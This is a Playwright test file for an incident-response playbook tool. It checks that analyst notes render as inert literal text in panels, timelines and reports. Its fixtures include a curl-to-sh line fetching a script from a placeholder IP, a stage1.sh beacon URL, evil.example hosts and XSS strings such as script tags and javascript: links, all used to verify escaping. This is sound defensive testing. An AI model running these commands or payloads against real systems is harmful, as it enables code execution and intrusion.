import { expect, test, type Locator, type Page } from '@playwright/test';
import { barriers } from '../pages/accessibility.ts';
import { ReportPage } from '../pages/report.ts';
import { at, analyst, type Theme } from '../world/analysts.ts';
import { PNG, started } from '../world/executions.ts';

const PLAYBOOK = `# Placeholders

1. Isolate the host

   Ask <duty manager> first: **now**, see [the guide](https://guide.example/isolate) and https://bare.example.
   | Host | Tool |
   |------|------|
   | any  | \`edr isolate <IP address>\` | more |
2. Go on
`;

const STEP = 'Isolate the host';

/** Lines that must be shown to the letter, as lines of their own. */
const LETTERS = [
  'Key HKLM\\SOFTWARE\\Microsoft\\.NETFramework was set by \\\\fs01\\admin$\\run.bat; mask C:\\Windows\\Temp\\*.tmp, C:\\Windows\\Temp\\_x, __init__.py, &lt;script&gt;',
  'Path C:\\__test_group\\__\\x and \\\\srv\\c$\\a_b_c',
  '    four blanks,  two  blanks',
  'Beacon to http://203.0.113.10/stage1.sh and www.evil.example, mail from bad@evil.example',
  '<script>alert(1)</script> &amp; &lt; [x](javascript:alert(1)) $HOME ~~no~~ ![p](http://203.0.113.10/p.png)',
];
const NOTE = `${LETTERS.join('\n')}
# not a heading of the report
| a | b |
|---|---|
| \`x | y\` | <b>bold</b> | more |

- **Found** it
- [ ] open

\`\`\`sh
  $ curl 'http://203.0.113.10/?a=1&b=2' | sh
## inside
`;
/** What is seen of the rest. */
const SEEN = ['# not a heading of the report', 'x | y', '<b>bold</b>', 'more', 'Found it', '[ ] open', 'sh', "  $ curl 'http://203.0.113.10/?a=1&b=2' | sh\n## inside"];

/** Every letter is seen, lines are lines, and nothing of it can be pressed or was run. */
async function isToTheLetter(place: Locator) {
  const seen = await place.evaluate((place) => (place as HTMLElement).innerText);
  for (const line of [...LETTERS, ...SEEN]) expect(seen.replaceAll('\u00a0', ' ')).toContain(line);
  await expect(place.locator('a, script, img, b, h1, h2, h3, h4, h5, h6, del, em')).toHaveCount(0);
  await expect(place.locator('strong', { hasText: 'Found' }), 'what was marked strong is').toHaveText('Found');
}

async function leadsNowhere(page: Page) {
  await expect(page.locator('a[href^="http://203.0.113.10"], a[href*="evil.example"], [src*="203.0.113.10"]')).toHaveCount(0);
}

for (const theme of ['light', 'dark'] as Theme[]) {
  test(`a note is shown to the letter in panel, timeline and report, and nothing in it leads anywhere (${theme})`, async ({ browser, request }) => {
    const execution = await started(request, 'To the letter', { source: PLAYBOOK });
    await execution.change(STEP, { notes: NOTE, key: true });
    await execution.attach(STEP, { name: 'a.png', mimeType: 'image/png', buffer: PNG }, NOTE);
    const ana = await at(browser, execution.address, 'Ana', theme);
    await ana.choose(STEP);
    await isToTheLetter(ana.panel.locator('.note .prose'));
    await isToTheLetter(ana.attached.locator('.prose'));
    await ana.openTimeline();
    await isToTheLetter(ana.happened('note_added').locator('.prose'));
    await leadsNowhere(ana.page);
    expect(await barriers(ana.page)).toEqual([]);

    await execution.end('completed', NOTE);
    await request.patch(`/api/executions/${execution.id}`, { data: { actor: 'Ana', recommendations: NOTE } });
    const report = new ReportPage(await analyst(browser, 'Ana', theme));
    await report.open(execution.id);
    await isToTheLetter(report.section('Annex: Step details').locator('.report-notes .prose'));
    await isToTheLetter(report.section('Annex: Step details').locator('.evidence-table .prose'));
    await isToTheLetter(report.section('Key events').locator('tr', { hasText: 'noted on' }).locator('.prose'));
    await isToTheLetter(report.section('Findings and recommendations').locator('.prose'));
    await isToTheLetter(report.fact('Outcome').locator('.prose'));
    await isToTheLetter(report.passage.locator('.prose'));
    await leadsNowhere(report.page);
    expect(await barriers(report.page)).toEqual([]);
  });
}

test('a note that is written here looks the same while it is saved and after', async ({ browser, request }) => {
  const execution = await started(request, 'At once', { source: PLAYBOOK });
  const ana = await at(browser, execution.address, 'Ana');
  await ana.choose(STEP);
  await ana.page.context().setOffline(true);
  await ana.write(NOTE);
  const note = ana.panel.locator('.note .prose');
  await isToTheLetter(note);
  const before = await note.innerHTML();
  await ana.page.context().setOffline(false);
  await expect(ana.panel.locator('.note:not(.pending)')).toHaveCount(1);
  expect(await note.innerHTML()).toBe(before);
});

test('instructions show placeholders as text, and lead where their author says', async ({ browser, request }) => {
  const execution = await started(request, 'Placeholders', { source: PLAYBOOK });
  const ana = await at(browser, execution.address, 'Ana');
  await ana.choose(STEP);
  const instructions = ana.panel.getByRole('region', { name: 'Instructions' });
  await expect(instructions).toContainText('Ask <duty manager> first: now, see the guide and https://bare.example.');
  await expect(instructions.getByRole('link')).toHaveCount(1);
  const link = instructions.getByRole('link', { name: 'the guide' });
  await expect(link).toHaveAttribute('href', 'https://guide.example/isolate');
  await expect(link).toHaveAttribute('title', 'https://guide.example/isolate');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  await expect(instructions.getByRole('cell')).toHaveText(['any', 'edr isolate <IP address>', 'more']);
});
